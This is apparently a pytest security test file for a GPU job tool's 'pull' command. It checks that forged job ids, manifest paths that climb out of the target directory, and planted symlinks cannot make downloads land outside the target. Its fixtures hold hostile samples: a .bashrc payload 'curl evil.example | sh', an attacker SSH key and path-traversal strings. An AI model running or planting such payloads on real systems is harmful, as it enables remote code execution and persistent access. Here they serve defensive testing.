"""A box that lies about its job ids and file names cannot make a pull write outside pull_to
(tui/localpath.py), over the real sshd.

The box runs the real helper through a stand-in interpreter (hosts.toml ``python``), which is
what anything running as the box's user can make it be: ``queue ls`` answers a job list
forged in ``~/trust-pull/queue-ls.json``, ``manifest`` answers the real helper's manifest with
the paths renamed by ``~/trust-pull/renames.json``; everything else is the real helper.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from harness.hostile import end_user_processes, hosts_toml

from gpuroom.tui import config as cfg
from gpuroom.tui.cli.main import main
from gpuroom.tui.fleet.live import Fleet
from gpuroom.tui.localpath import shown
from gpuroom.tui.transport.pull import load_records

pytestmark = pytest.mark.sshd

STAND_IN = """#!/usr/bin/python3
import json, os, subprocess, sys
args = sys.argv[1:]
at = next((i for i, a in enumerate(args) if a.endswith(".pyz")), None)
verb = args[at + 1:at + 3] if at is not None else []
lies = os.path.expanduser("~/trust-pull")
if verb == ["queue", "ls"]:
    sys.stdout.write(open(os.path.join(lies, "queue-ls.json")).read() + "\\n")
    sys.exit(0)
if verb[:1] == ["manifest"]:
    doc = json.loads(subprocess.run([sys.executable, *args], stdout=subprocess.PIPE).stdout)
    renames = json.load(open(os.path.join(lies, "renames.json")))
    for entry in doc.get("files", []):
        entry["path"] = renames.get(entry.get("path"), entry.get("path"))
    sys.stdout.write(json.dumps(doc) + "\\n")
    sys.exit(0)
os.execv(sys.executable, [sys.executable, *args])
"""

# What a box's home holds that a forged job id would bring into the user's.
THE_BOXS_HOME = {".bashrc": b"curl evil.example | sh\n",
                 ".ssh/authorized_keys": b"ssh-ed25519 AAAA attacker\n"}


class Lying:
    """The box side of one test: checkpoint dirs, the forged job list, the renames."""

    def __init__(self, box: Any) -> None:
        self.box = box
        self.dir = box.home / "trust-pull"
        shutil.rmtree(self.dir, ignore_errors=True)
        self.dir.mkdir()
        self.python = self.dir / "python3"
        self.python.write_text(STAND_IN)
        self.python.chmod(0o755)
        self.jobs: list[dict[str, Any]] = []
        self.renames: dict[str, str] = {}

    def ckpt(self, name: str, files: dict[str, bytes]) -> str:
        d = self.dir / name
        for rel, data in files.items():
            (d / rel).parent.mkdir(parents=True, exist_ok=True)
            (d / rel).write_bytes(data)
        return str(d)

    def job(self, job_id: str, ckpt_dir: str) -> None:
        self.jobs.append({"id": job_id, "state": "succeeded", "ckpt_dir": ckpt_dir,
                          "argv": ["python3", "train.py"], "attempts": []})

    def write(self) -> None:
        (self.dir / "queue-ls.json").write_text(json.dumps(
            {"queue": "default", "backend": "local", "jobs": self.jobs,
             "jobs_total": len(self.jobs)}))
        (self.dir / "renames.json").write_text(json.dumps(self.renames))
        user = self.box.identity.user
        for path in (self.dir, *self.dir.rglob("*")):
            os.lchown(path, user.uid, user.gid)


@pytest.fixture
def lying(sshd_box: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Lying]:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    box = Lying(sshd_box)
    try:
        yield box
    finally:
        shutil.rmtree(box.dir, ignore_errors=True)
        end_user_processes(sshd_box.identity.user.uid)


def config_for(lying: Lying, tmp_path: Path, **host: Any) -> Path:
    return hosts_toml(tmp_path / "hosts.toml",
                      {"box": {"ssh": lying.box.alias, "python": str(lying.python), **host}},
                      lying.box.ssh_config)


def tree(top: Path) -> set[str]:
    """Every path under ``top`` (symlinks not followed), relative to it."""
    return {str(p.relative_to(top)) for p in top.rglob("*")}


def records(tmp_path: Path) -> list[dict[str, Any]]:
    return load_records(tmp_path / "state" / "gpuroom" / "pulls.json")


def home_for(tmp_path: Path) -> tuple[Path, Path]:
    """The user's HOME stand-in and pull_to inside it, deep enough that the forged
    ``../../../../..`` from pull_to/box lands exactly in that HOME."""
    home = tmp_path / "home"
    root = home / "a" / "b" / "c" / "pulls"
    root.mkdir(parents=True)
    (home / ".profile").write_text("the user's own\n")
    return home, root


@pytest.mark.attack("trust", "queue ls gives job ids ../../../../.., an absolute path and "
                    "j1/../../x beside an honest job: gpuroom pull writes nothing outside "
                    "pull_to, records nothing for them, names the host and each forged id, "
                    "still pulls the honest job and exits non-zero")
def test_forged_job_ids_never_leave_pull_to(lying: Lying, tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    home, root = home_for(tmp_path)
    evil = lying.ckpt("ck-evil", THE_BOXS_HOME)
    forged = ["../../../../..", str(tmp_path / "abs"), "j1/../../x"]
    for job_id in forged:
        lying.job(job_id, evil)
    lying.job("j2", lying.ckpt("ck-good", {"w.bin": b"honest" * 1000}))
    lying.write()
    config = config_for(lying, tmp_path)
    before = tree(tmp_path)

    rc = main(["--config", str(config), "pull", "box", "--to", str(root)])
    out, err = capsys.readouterr()

    assert rc == 1, (out, err)
    for job_id in forged:
        line = next((x for x in out.splitlines()
                     if f"box: job id {shown(job_id)} refused" in x), None)
        assert line is not None, (job_id, out, err)
        assert "not a job id the helper gives" in line and "nothing recorded" in line
    assert not (home / ".bashrc").exists() and not (home / ".ssh").exists()
    assert not (tmp_path / "abs").exists() and not (root / "x").exists()
    assert (home / ".profile").read_text() == "the user's own\n"
    new = tree(tmp_path) - before
    assert {p for p in new if not p.startswith(("state", "home/a/b/c/pulls/box/j2"))} == \
        {"home/a/b/c/pulls/box"}, sorted(new)
    assert (root / "box" / "j2" / "w.bin").read_bytes() == b"honest" * 1000
    assert [(r["host"], r["job"]) for r in records(tmp_path)] == [("box", "j2")]


@pytest.mark.attack("trust", "a manifest renames a file ../../../../.bashrc (and another "
                    "/etc/x): both refused with the job named, the job's honest file still "
                    "comes home, no pull record claims the job")
def test_a_manifest_path_climbing_out_is_refused(lying: Lying, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    home, root = home_for(tmp_path)
    lying.job("j3", lying.ckpt("ck-climb", {"climb.bin": b"x" * 99, "abs.bin": b"y" * 99,
                                             "stay.bin": b"z" * 99}))
    lying.renames = {"climb.bin": "../../../../../.bashrc", "abs.bin": str(home / "abs.bin")}
    lying.write()

    rc = main(["--config", str(config_for(lying, tmp_path)), "pull", "box", "--to", str(root)])
    out, err = capsys.readouterr()

    assert rc == 1, (out, err)
    said = {line.split(": ", 1)[0]: line for line in out.splitlines()}
    for rel in ("../../../../../.bashrc", str(home / "abs.bin")):
        assert "refused" in said[f"j3/{rel}"] and "would land outside" in said[f"j3/{rel}"]
    assert (root / "box" / "j3" / "stay.bin").read_bytes() == b"z" * 99
    assert not (home / ".bashrc").exists() and not (home / "abs.bin").exists()
    assert sorted(tree(root)) == ["box", "box/j3", "box/j3/stay.bin"]
    assert records(tmp_path) == []  # a job with a refused file is not "pulled"


@pytest.mark.attack("trust", "symlinks already in pull_to (a job's dir, a .part, a subdir) "
                    "point at HOME: the room's pull (P) never writes through one, says which "
                    "job and file, and still pulls the rest")
async def test_a_local_symlink_in_pull_to_is_never_written_through(
        lying: Lying, tmp_path: Path) -> None:
    home, root = home_for(tmp_path)
    box = root / "box"
    (box / "j5").mkdir(parents=True)
    (box / "j4").symlink_to(home)  # the whole job dir
    (box / "j5" / "w.bin.part").symlink_to(home / ".profile")  # a resumed .part
    (box / "j6").mkdir()
    (box / "j6" / "sub").symlink_to(home)  # a subdir of the job
    lying.job("j4", lying.ckpt("ck4", {".bashrc": b"evil4"}))
    lying.job("j5", lying.ckpt("ck5", {"w.bin": b"evil5", "ok.bin": b"fine5"}))
    lying.job("j6", lying.ckpt("ck6", {"sub/.bashrc": b"evil6", "ok.bin": b"fine6"}))
    lying.job("j7", lying.ckpt("ck7", {"w.bin": b"fine7"}))
    lying.write()
    fleet = Fleet(cfg.load(config_for(lying, tmp_path, pull_to=str(root))))
    try:
        results = dict(await fleet.pull("box", None, lambda jid, p: None))
    finally:
        await fleet.close()

    assert results["j4"].refused.startswith("box: job 'j4' refused: a symlink under "), \
        results["j4"].refused
    assert not results["j4"].ok and results["j4"].files == []
    j5 = {f.path: (f.status, f.detail) for f in results["j5"].files}
    assert j5["w.bin"][0] == "refused" and "symlink" in j5["w.bin"][1], j5
    assert j5["ok.bin"][0] == "verified"
    j6 = {f.path: f.status for f in results["j6"].files}
    assert j6 == {"sub/.bashrc": "refused", "ok.bin": "verified"}, j6
    assert results["j7"].ok
    assert (home / ".profile").read_text() == "the user's own\n"
    assert not (home / ".bashrc").exists()
    assert (box / "j7" / "w.bin").read_bytes() == b"fine7"
    assert [(r["host"], r["job"]) for r in records(tmp_path)] == [("box", "j7")]
